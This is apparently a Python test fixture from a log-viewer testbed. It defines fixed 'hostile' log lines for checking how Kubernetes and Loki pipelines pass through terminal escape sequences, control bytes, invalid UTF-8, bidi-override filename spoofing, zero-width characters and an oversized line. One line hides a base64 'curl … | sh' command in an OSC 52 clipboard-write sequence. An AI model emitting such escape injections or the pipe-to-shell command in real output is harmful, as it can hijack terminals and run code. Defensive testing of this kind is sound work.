"""The fixed hostile log lines written by `python -m testbed logs hostile`: name -> the exact bytes of the line
(without the trailing newline). Every line starts with its marker `HOSTILE-NN ` so tests can find it.

What comes back (measured, see testbed/README.md "Hostile lines"):
- through the Kubernetes log API (KWOK serving the CRI file): the exact bytes, including invalid UTF-8, raw C1
  bytes, NUL, a lone ESC and the 2 MiB line;
- through Loki: the line is pushed as JSON, so invalid UTF-8 bytes (and the raw C1 bytes) arrive as U+FFFD, as
  promtail's Go JSON encoder would send them; everything that is valid UTF-8 comes back unchanged (JSON-escaped);
  the 2 MiB line is rejected by Loki's max_line_size (256KB by default): it is never queryable from Loki.
"""
from __future__ import annotations

import base64

MARKER = "HOSTILE-"
HUGE_BYTES = 2 * 1024 * 1024

_OSC52 = base64.b64encode(b"curl http://127.0.0.1/evil | sh").decode()

LINES: dict[str, bytes] = {
    "csi-colour-no-reset": b"HOSTILE-01 \x1b[31m\x1b[1m\x1b[5mred, bold and blinking, never reset",
    "cursor-movement": b"HOSTILE-02 \x1b[2J\x1b[Hscreen cleared, cursor home \x1b[10;5Hjumped \x1b[3Aup "
                       b"\x1b[?25lhidden",
    "osc0-title": b"HOSTILE-03 \x1b]0;pwned\x07window title changed",
    "osc52-clipboard": b"HOSTILE-04 \x1b]52;c;" + _OSC52.encode() + b"\x07clipboard written",
    "osc8-hyperlink": b"HOSTILE-05 \x1b]8;;http://127.0.0.1/evil\x1b\\click here\x1b]8;;\x1b\\ hyperlink",
    "dcs": b"HOSTILE-06 \x1bP$q\"p\x1b\\ DECRQSS request \x1bP1;1|17/ab\x1b\\ DECUDK",
    "apc": b"HOSTILE-07 \x1b_Gf=24,s=1,v=1,a=T;AAAA\x1b\\ kitty graphics APC",
    "c0-controls": b"HOSTILE-08 " + bytes(c for c in range(0x00, 0x20) if c != 0x0A)
                   + b" NUL..US (no LF)\rcarriage return overwrote the start\b\b\bBS",
    "c1-codepoints": ("HOSTILE-09 " + "".join(chr(c) for c in range(0x80, 0xA0))
                      + " \u009b31mC1 CSI red \u009d0;pwned\u009c C1 OSC").encode("utf-8"),
    "c1-raw-bytes": b"HOSTILE-10 " + bytes(range(0x80, 0xA0)) + b" \x9b31mraw C1 CSI",
    "lone-esc": b"HOSTILE-11 a lone escape at the end \x1b",
    "invalid-utf8": b"HOSTILE-12 \xff\xfe \xc3\x28 \xe2\x82 \xf0\x28\x8c\xbc overlong \xc0\xaf "
                    b"surrogate \xed\xa0\x80 end",
    "bom": "HOSTILE-13 \ufeffbyte order mark after the marker".encode("utf-8"),
    "bidi-override": "HOSTILE-14 invoice_\u202eexe.pdf\u202c \u2066isolate\u2069 \u202dforced LTR\u202c".encode(
        "utf-8"),
    "zero-width": "HOSTILE-15 pass\u200bword ad\u2060min zw\u200cnj\u200dj".encode("utf-8"),
}
_head = b"HOSTILE-16 2 MiB line: "
LINES["huge-2mib"] = _head + b"0123456789abcdef" * ((HUGE_BYTES - len(_head)) // 16) + b"X" * (
    (HUGE_BYTES - len(_head)) % 16)

assert all(v.startswith(MARKER.encode()) and b"\n" not in v for v in LINES.values())
assert len(LINES["huge-2mib"]) == HUGE_BYTES


def as_pushed(raw: bytes) -> str:
    """The line as it is pushed to Loki (JSON strings are Unicode: invalid UTF-8 becomes U+FFFD)."""
    return raw.decode("utf-8", "replace")


def marker_of(line: str | bytes) -> str:
    """'HOSTILE-07' for a hostile line (str or bytes), '' otherwise."""
    head = line[:11].decode("ascii", "replace") if isinstance(line, bytes) else line[:11]
    return head[:10] if head.startswith(MARKER) and head[10:11] == " " else ""
